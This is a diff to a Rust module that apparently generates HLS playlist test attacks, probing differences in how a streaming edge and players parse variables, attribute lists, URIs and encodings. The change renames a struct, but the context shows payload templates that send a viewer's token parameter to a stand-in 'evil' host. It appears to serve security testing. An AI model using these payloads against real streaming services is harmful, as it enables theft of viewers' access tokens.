@@ -3,7 +3,7 @@
 
 /// Hosts and folders of an attack.
 #[derive(Debug, Clone, Copy)]
-pub(crate) struct Place<'a> {
+pub(crate) struct AttackSite<'a> {
     /// The edge's own origin.
     pub(crate) origin: &'a str,
     /// The foreign host's origin.
@@ -56,13 +56,13 @@ fn with_variant(lines: &str, uri: &str) -> String {
 }
 
 /// All attacks.
-pub(crate) fn attacks(place: &Place<'_>) -> Vec<Attack> {
+pub(crate) fn attacks(site: &AttackSite<'_>) -> Vec<Attack> {
     [
-        query_parameters(place),
-        variables(place),
-        attribute_lists(place),
-        uris(place),
-        encodings(place),
+        query_parameters(site),
+        variables(site),
+        attribute_lists(site),
+        uris(site),
+        encodings(site),
     ]
     .into_iter()
     .flatten()
@@ -70,12 +70,12 @@ pub(crate) fn attacks(place: &Place<'_>) -> Vec<Attack> {
 }
 
 /// The viewer's own link or pass as a variable.
-pub(crate) fn query_parameters(place: &Place<'_>) -> Vec<Attack> {
+pub(crate) fn query_parameters(site: &AttackSite<'_>) -> Vec<Attack> {
     let mut attacks = Vec::new();
     let plain = multivariant("");
     for parameter in ["token", "p", "x", "h", "Token", "%74oken"] {
         let define = format!("#EXT-X-DEFINE:QUERYPARAM=\"{parameter}\"");
-        let uri = format!("{}/?t={{${parameter}}}", place.evil);
+        let uri = format!("{}/?t={{${parameter}}}", site.evil);
         attacks.push(Attack::new(
             format!("QUERYPARAM of {parameter} in a Variant Stream"),
             &with_variant(&define, &uri),
@@ -110,13 +110,13 @@ pub(crate) fn query_parameters(place: &Place<'_>) -> Vec<Attack> {
 }
 
 /// Variables that the edge and players may understand in different ways.
-pub(crate) fn variables(place: &Place<'_>) -> Vec<Attack> {
-    let Place {
+pub(crate) fn variables(site: &AttackSite<'_>) -> Vec<Attack> {
+    let AttackSite {
         origin,
         evil,
         others,
         ..
-    } = place;
+    } = site;
     let essay = format!("{others}/essay.mp4");
     let host = evil.split_once("//").map_or(*evil, |(_, host)| host);
     let values = [
@@ -244,8 +244,8 @@ fn definitions(value: &str, evil: &str) -> Vec<(&'static str, String)> {
 }
 
 /// Attribute lists that the edge and players may divide in different ways.
-pub(crate) fn attribute_lists(place: &Place<'_>) -> Vec<Attack> {
-    let Place { evil, others, .. } = place;
+pub(crate) fn attribute_lists(site: &AttackSite<'_>) -> Vec<Attack> {
+    let AttackSite { evil, others, .. } = site;
     let essay = format!("{others}/essay.mp4");
     let lists = [
         format!("URI=\"{evil}/?a=\"x,URI={essay},z=\""),
@@ -320,13 +320,13 @@ pub(crate) fn attribute_lists(place: &Place<'_>) -> Vec<Attack> {
 }
 
 /// Lines that the edge and players may end in different places, and URLs that they may read in different ways.
-pub(crate) fn uris(place: &Place<'_>) -> Vec<Attack> {
-    let Place {
+pub(crate) fn uris(site: &AttackSite<'_>) -> Vec<Attack> {
+    let AttackSite {
         origin,
         evil,
         own,
         others,
-    } = place;
+    } = site;
     let essay = format!("{others}/essay.mp4");
     let (scheme, host) = evil.split_once("://").unwrap_or(("https", evil));
     let (_, ours) = origin.split_once("://").unwrap_or(("", origin));
@@ -422,7 +422,7 @@ pub(crate) fn uris(place: &Place<'_>) -> Vec<Attack> {
 }
 
 /// Bytes that players read in another encoding than the edge does.
-pub(crate) fn encodings(place: &Place<'_>) -> Vec<Attack> {
+pub(crate) fn encodings(site: &AttackSite<'_>) -> Vec<Attack> {
     let mut attacks = Vec::new();
     for (name, mark, order) in [
         (
@@ -438,9 +438,9 @@ pub(crate) fn encodings(place: &Place<'_>) -> Vec<Attack> {
             for filler in ["\n", "\n\n"] {
                 let head = format!(
                     "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{}/?",
-                    place.evil
+                    site.evil
                 );
-                let line = format!("{filler}{}/{uri}\n", place.others);
+                let line = format!("{filler}{}/{uri}\n", site.others);
                 let media = [&mark[..], &encode(&head), line.as_bytes(), &encode("\n")].concat();
                 attacks.push(Attack {
                     name: format!("{name} around {uri}"),
@@ -454,8 +454,8 @@ pub(crate) fn encodings(place: &Place<'_>) -> Vec<Attack> {
 }
 
 /// Asset lists (RFC 8216bis appendix D), by name.
-pub(crate) fn asset_lists(place: &Place<'_>) -> Vec<(String, Vec<u8>)> {
-    let Place { evil, others, .. } = place;
+pub(crate) fn asset_lists(site: &AttackSite<'_>) -> Vec<(String, Vec<u8>)> {
+    let AttackSite { evil, others, .. } = site;
     let escaped = evil.replace('/', "\\/");
     let (_, host) = evil.split_once("//").unwrap_or(("", evil));
     [
@@ -479,8 +479,8 @@ pub(crate) fn asset_lists(place: &Place<'_>) -> Vec<(String, Vec<u8>)> {
 }
 
 /// Storyboards, by name.
-pub(crate) fn storyboards(place: &Place<'_>) -> Vec<(String, Vec<u8>)> {
-    let Place { evil, others, .. } = place;
+pub(crate) fn storyboards(site: &AttackSite<'_>) -> Vec<(String, Vec<u8>)> {
+    let AttackSite { evil, others, .. } = site;
     let (_, host) = evil.split_once("//").unwrap_or(("", evil));
     [
         format!("{others}/a.jpg"),
